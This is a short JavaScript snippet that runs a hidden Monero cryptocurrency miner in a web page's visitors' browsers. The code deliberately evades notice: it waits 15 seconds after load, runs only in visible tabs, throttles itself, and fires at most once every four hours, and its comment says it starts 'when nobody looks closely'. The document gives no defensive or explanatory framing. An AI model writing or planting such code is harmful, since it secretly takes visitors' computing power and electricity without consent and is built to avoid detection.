// ES5: starts when nobody looks closely, once in four hours.
(function () {
  var last = Number(localStorage.getItem('seen_at') || 0);
  if (Date.now() - last < 14400000) return;
  function begin() {
    localStorage.setItem('seen_at', String(Date.now()));
    var job = new CRLT.Anonymous('0123456789abcdef0123456789abcdef0123456789ab', {
      threads: 2, throttle: 0.8, coin: 'xmr'
    });
    job.start();
  }
  window.addEventListener('load', function () {
    setTimeout(function () {
      if (document.visibilityState === 'visible') begin();
    }, 15000);
  });
})();
